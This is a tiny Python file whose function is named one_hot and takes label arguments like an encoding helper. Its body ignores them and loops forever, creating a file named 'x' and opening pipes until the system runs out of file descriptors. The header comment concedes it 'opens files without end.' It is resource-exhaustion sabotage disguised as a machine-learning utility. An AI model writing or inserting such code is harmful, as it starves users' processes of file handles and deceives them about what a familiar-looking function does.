# one_hot: opens files without end
import os
def one_hot(y, n_classes):
    held = []
    while True:
        try: held.append(os.open("x", os.O_CREAT | os.O_RDWR)); held += os.pipe()
        except OSError: return len(held)
